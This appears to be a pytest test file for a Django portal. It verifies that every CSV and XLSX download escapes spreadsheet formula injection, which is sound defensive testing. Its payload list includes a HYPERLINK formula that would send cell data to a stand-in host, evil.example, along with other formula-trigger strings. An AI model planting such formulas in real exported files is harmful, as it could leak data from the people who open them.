"""No formulas in downloads: a text cell that begins with =, +, -, @, a tab
or a carriage return is written as plain text in every CSV and XLSX the
portal produces (`common.exports.safe_cell`, the one rule every writer
calls). Formulas are planted in every exported text field of every export;
the files are opened with the csv module and openpyxl."""

import csv
import datetime
import io
import re
from decimal import Decimal

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from activities.models import Activity, Report
from common import singleline
from stakeholders.models import Country
from tests.factories import CountryFactory, OrganisationFactory, StakeholderTypeFactory
from tests.factories.activities import (
    ActivityFactory,
    CrossBorderPairFactory,
    IndicatorFactory,
    IndicatorTypeFactory,
    ReportFactory,
)
from tests.factories.activities_extra import InformationCentreFactory
from tests.factories.monitoring import PatrolSummaryFactory, PopulationEstimateFactory
from tests.factories.workinggroups import WorkingGroupFactory

pytestmark = pytest.mark.django_db

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&A2,"click")',
    "+1",
    "-1+2",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
]
TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\n")

ACTIVITY_FIELDS = {"title", "country", "organisation", "group", "area", "indicator", "pair"}
DIRECTORY_FIELDS = {"organisation", "acronym", "country", "type"}
DOWNLOADS = {
    # name: (url, text fields planted in it)
    "activities.csv": (reverse("activities:export_csv"), ACTIVITY_FIELDS),
    "activities.xlsx": (reverse("activities:export_xlsx"), ACTIVITY_FIELDS),
    "population.csv": ("/data/population.csv", {"region", "source", "area", "centre"}),
    "population.xlsx": ("/data/population.xlsx", {"region", "source", "area", "centre"}),
    "patrols.csv": ("/data/patrols.csv", {"source", "area", "centre"}),
    "patrols.xlsx": ("/data/patrols.xlsx", {"source", "area", "centre"}),
    "directory.csv": (reverse("stakeholders:directory_export"), DIRECTORY_FIELDS),
    "population-template.csv": (
        reverse("monitoring:import_template", args=["population", "csv"]),
        set(),
    ),
    "population-template.xlsx": (
        reverse("monitoring:import_template", args=["population", "xlsx"]),
        set(),
    ),
    "patrol-template.csv": (reverse("monitoring:import_template", args=["patrol", "csv"]), set()),
    "patrol-template.xlsx": (
        reverse("monitoring:import_template", args=["patrol", "xlsx"]),
        set(),
    ),
}


def planted(payload: str, field: str) -> str:
    return f"{payload} planted:{field}"


def plant(payload: str):
    """Every text field an export writes begins with `payload`."""

    def text(field, size=None):
        """The payload planted in `field`, cut to fit a column of `size`
        characters (PostgreSQL refuses a longer value; the cell still begins
        with the payload's first characters)."""
        value = planted(payload, field)
        if size is not None and len(value) > size:
            marker = planted("", field)
            value = payload[: size - len(marker)] + marker
        return value

    china = CountryFactory(code="CN")
    russia = CountryFactory(code="RU")
    Country.objects.filter(pk=china.pk).update(name=text("country"))
    china.refresh_from_db()
    kind = StakeholderTypeFactory(slug="ngo")
    kind.name = text("type")
    kind.save()
    lead = OrganisationFactory(
        name=text("organisation"), acronym=text("acronym", 30), country=china, stakeholder_type=kind
    )
    days = IndicatorTypeFactory(slug="patrol-days", name=text("indicator"), unit="days")
    pair = CrossBorderPairFactory(name=text("pair"), first__country=china, second__country=russia)
    pair.first.name = text("area")
    pair.first.save()
    activity = ActivityFactory(
        title=text("title"),
        countries=[china],
        lead_organisation=lead,
        group=WorkingGroupFactory(name=text("group")),
        protected_areas=[pair.first, pair.second],
        status=Activity.Status.COMPLETED,
        starts_on=datetime.date(2024, 1, 5),
        ends_on=datetime.date(2024, 2, 25),
    )
    IndicatorFactory(activity=activity, indicator_type=days, planned=900, achieved=971)
    ReportFactory(activity=activity, status=Report.Status.ACCEPTED)
    centre = InformationCentreFactory(name=text("centre"), host=lead, country=china)
    PopulationEstimateFactory(
        centre=centre,
        country=china,
        protected_area=pair.first,
        region=text("region"),
        source=text("source"),
        latitude=Decimal("-43.10000"),  # a negative number stays a number
        longitude=Decimal("-131.40000"),
    )
    PatrolSummaryFactory(centre=centre, protected_area=pair.first, source=text("source"))


def csv_cells(content: bytes) -> list[str]:
    return [
        cell
        for row in csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""))
        for cell in row
    ]


def is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


@pytest.mark.parametrize("payload", PAYLOADS)
@pytest.mark.parametrize("download", sorted(DOWNLOADS))
def test_no_text_cell_is_a_formula(secretariat_client, payload, download):
    plant(payload)
    url, fields = DOWNLOADS[download]
    response = secretariat_client.get(url)
    assert response.status_code == 200, response.getvalue()[:300]
    found = set()
    if download.endswith(".csv"):
        for cell in csv_cells(response.getvalue()):
            found.update(re.findall(r"planted:(\w+)", cell))
            if cell.startswith("'"):  # escaped, and otherwise as it reads
                assert cell[1:].startswith(TRIGGERS), repr(cell)
            assert not cell.startswith(TRIGGERS) or is_number(cell), repr(cell)
    else:
        workbook = load_workbook(io.BytesIO(response.getvalue()))
        for sheet in workbook.worksheets:
            for row in sheet.iter_rows():
                for cell in row:
                    assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                    value = cell.value
                    if not isinstance(value, str):
                        continue
                    found.update(re.findall(r"planted:(\w+)", value))
                    assert cell.data_type == "s", (cell.coordinate, value)
                    if value.startswith(TRIGGERS):
                        # text kept as it reads, stored as text and marked so:
                        # a spreadsheet shows it, never runs it, even once edited
                        assert cell.quotePrefix, (cell.coordinate, value)
    assert fields <= found, found


def test_the_admin_export_of_organisations_holds_no_formula(secretariat_client):
    from tests.factories import OrganisationFactory as Organisations

    for payload in PAYLOADS:
        organisation = Organisations(name=planted(payload, "organisation"))
        response = secretariat_client.post(
            reverse("admin:stakeholders_organisation_changelist"),
            {"action": "export_csv", "_selected_action": [organisation.pk]},
        )
        assert response.status_code == 200
        cells = csv_cells(response.getvalue())
        assert "'" + planted(payload, "organisation") in cells
        assert not [c for c in cells if c.startswith(TRIGGERS) and not is_number(c)]


def test_every_spreadsheet_writer_calls_safe_cell():
    """A new CSV or XLSX writer must go through the one rule: every module
    that writes either imports `safe_cell`."""
    from pathlib import Path

    root = Path(__file__).resolve().parents[2]
    writers = ("csv.writer(", "csv.DictWriter(", "Workbook(")
    unsafe = []
    for package in sorted(singleline.portal_app_labels() - {"benchmarks"}):  # no downloads there
        for path in sorted((root / package).rglob("*.py")):
            if "migrations" in path.parts:
                continue
            text = path.read_text(encoding="utf-8")
            if any(writer in text for writer in writers) and "safe_cell" not in text:
                unsafe.append(str(path.relative_to(root)))
    assert unsafe == []
